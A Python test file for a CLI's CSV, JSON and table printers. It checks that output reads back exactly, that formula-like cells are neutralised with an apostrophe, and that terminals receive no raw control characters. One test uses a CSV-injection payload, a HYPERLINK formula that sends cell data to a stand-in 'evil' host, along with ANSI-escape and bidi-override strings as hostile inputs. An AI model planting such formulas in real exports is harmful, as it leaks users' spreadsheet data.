"""CSV and JSON read back as what was printed, whatever it contains; terminals get nothing raw."""

import csv
import io
import json
import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from woodpecker_async.cli import printers
from woodpecker_async.cli.layout import Column, Layout
from woodpecker_async.sandbox import Fault

NASTY = "\r\n\t\x00\x1b\x7f\x85\x9b\xa0\u200b\u2028\u202e\u2066\ufeff\ud800\U000e0001,;'\"\\|= +-@＝＋－＠﹢aż株🦊"
SIGNS = "=+-@＝＋－＠"
cells = st.text(st.sampled_from(NASTY) | st.characters(exclude_categories=[]), max_size=8)
values = st.none() | st.booleans() | st.integers() | cells
# A high surrogate followed by a low one is another way to write one character.
exact = st.text(st.sampled_from(NASTY) | st.characters(), max_size=8)

LAYOUT = Layout((Column("id", "Id"), Column("label", "Label"), Column("more", "More")))


class Stream(io.TextIOWrapper):
    def __init__(self, *, terminal=False, encoding="utf-8"):
        super().__init__(io.BytesIO(), encoding=encoding, errors="backslashreplace", newline="")
        self._terminal = terminal

    def isatty(self):
        return self._terminal

    @property
    def written(self):
        self.flush()
        return self.buffer.getvalue()


def printed(format_, rows, **stream):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdout", Stream(**stream))
        printer = printers.Printer(format_, LAYOUT)
        for place, row in enumerate(rows):
            printer.add(dict(zip(("id", "label", "more"), row, strict=True)), place)
        printer.finish()
        return sys.stdout.written


def fields(value):
    """What a cell becomes after encoding as UTF-8."""
    text = "" if value is None else value if isinstance(value, str) else json.dumps(value)
    return text.encode("utf-8", "backslashreplace").decode()


def strict(text):
    """RFC 4180, to the letter."""
    rows, row, at = [], [], 0
    while at < len(text):
        if text[at] == '"':
            end = at + 1
            while text[end : end + 2] == '""' or text[end] != '"':
                end += 2 if text[end] == '"' else 1
            row.append(text[at + 1 : end].replace('""', '"'))
            at = end + 1
        else:
            end = min(place for sign in (",", "\r\n") if (place := text.find(sign, at)) >= 0)
            assert not set(text[at:end]) & set('"\r\n')
            row.append(text[at:end])
            at = end
        if text[at] == ",":
            at += 1
        else:
            assert text[at : at + 2] == "\r\n"
            rows.append(row)
            row = []
            at += 2
    return rows


def read_back(cell):
    """As documented: remove one apostrophe if a formula follows."""
    return cell[1:] if cell.startswith("'") and runs(cell[1:]) else cell


def runs(cell):
    """Whether a spreadsheet would run it, ignoring leading apostrophes."""
    seen = [character for character in cell.lstrip("'") if character.isprintable() and not character.isspace()]
    return bool(seen) and unicodedata.normalize("NFKC", seen[0]) in set("=+-@")


@pytest.mark.parametrize(
    "read", [strict, lambda text: list(csv.reader(io.StringIO(text, newline="")))], ids=["rfc", "csv"]
)
@given(rows=st.lists(st.tuples(values, values, values), max_size=5))
@example(rows=[("nightly\rrun", "\n", ""), (None, None, None), ("a\r\nb", '"', "\ufeff")])
def test_csv_reads_back(read, rows):
    expected = [["id", "label", "more"], *[[fields(value) for value in row] for row in rows]]
    raw = printed("csv-raw", rows).decode()
    assert read(raw) == expected
    guarded = read(printed("csv", rows).decode())
    assert [[read_back(cell) for cell in row] for row in guarded] == expected


@given(rows=st.lists(st.tuples(cells, cells, cells), max_size=5))
@example(rows=[("=1", "\t=1", "\r\n@x"), ("＋1", " -1", "'=1"), ("\ufeff=1", "\x00+1", "''")])
def test_no_cell_is_run_by_a_spreadsheet(rows):
    for row in csv.reader(io.StringIO(printed("csv", rows).decode(), newline="")):
        for cell in row:
            assert cell.startswith("'") or cell.lstrip("\t\r\n\x00\ufeff ")[:1] not in set(SIGNS) or not cell


def test_only_formulas_get_an_apostrophe():
    row = ("harmless - really", "'quoted'", -5)
    assert strict(printed("csv", [row]).decode())[1] == ["harmless - really", "'quoted'", "-5"]
    row = ("=1+1", "'=1+1", "\tx")
    assert strict(printed("csv", [row]).decode())[1] == ["'=1+1", "''=1+1", "\tx"]


def test_the_empty_string_is_not_nothing():
    assert printed("csv", [("", None, "x")]) == b'id,label,more\r\n"",,x\r\n'


def test_csv_loses_nothing_to_the_encoding_of_stdout():
    assert "Żuraw" in printed("csv", [("Żuraw", 1, 2)], encoding="latin-1").decode("utf-8")
    assert "Żuraw" in printed("csv", [("Żuraw", 1, 2)], encoding="utf-16").decode("utf-16")


@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
@pytest.mark.parametrize("terminal", [False, True])
@given(rows=st.lists(st.tuples(exact, exact, values), max_size=5))
@example(rows=[("\x85\u2028\x1c", "\ud800", "\x7f\x9b")])
def test_json_reads_back(rows, terminal, encoding):
    records = [dict(zip(("id", "label", "more"), row, strict=True)) for row in rows]
    lines = printed("jsonl", rows, terminal=terminal, encoding=encoding).decode(encoding).splitlines()
    # Only adjacent lone surrogates become a different text.
    assert json.dumps([json.loads(line) for line in lines]) == json.dumps(records)
    whole = json.loads(printed("json", rows, terminal=terminal, encoding=encoding).decode(encoding))
    assert json.dumps(whole) == json.dumps(records)


@pytest.mark.parametrize("format_", ["table", "json", "jsonl", "csv", "csv-raw"])
@given(rows=st.lists(st.tuples(values, values, values), max_size=5))
def test_a_terminal_gets_nothing_raw(format_, rows):
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NO_COLOR", "1")
        seen = printed(format_, rows, terminal=True).decode()
    assert {c for c in seen if not c.isprintable() and unicodedata.category(c) != "Zs"} <= {"\n"}


def test_labels_from_a_server(opened):
    labels = ["nightly\rrun", "\x1b[31mred\x1b[0m", '=HYPERLINK("http://evil/?"&E2,"open")', "a\tb\r\nc", " \u202e "]
    with opened(companies=1, keys_per_company=0) as (box, cli):
        for label in labels:
            box.state.add_key(box.company_ids[0], label)
        rows = list(csv.DictReader(io.StringIO(cli("keys", "list", "--all", "--format", "csv").out, newline="")))
        assert [row["label"].removeprefix("'") for row in rows] == labels
        raw = cli("keys", "list", "--all", "--format", "csv", "--csv-raw").out
        assert [row["label"] for row in csv.DictReader(io.StringIO(raw, newline=""))] == labels


def test_a_key_alone_in_a_pipe_is_not_changed(opened):
    with opened(companies=1, keys_per_company=0) as (box, cli):
        company = box.company_ids[0]
        paging = '{"total_elements": 1, "total_pages": 1, "current_page_number": 1, "page_size": 50}'
        body = '{"content": [{"api_key": "1.\\u001b[31mred", "label": "crm"}], "pagination_data": ' + paging + "}"
        box.faults.add(Fault.body(body.encode(), path=f"/v2/agency/companies/{company}/api_keys", times=None))
        got = cli("keys", "ensure", "--company", company, "--label", "crm", "--reveal")
        assert (got.code, got.out) == (0, "1.\x1b[31mred\n")


def test_raw_goes_with_csv(cli):
    got = cli("companies", "list", "--csv-raw")
    assert got.code == 2
    assert "--csv-raw works only with --format csv" in got.err
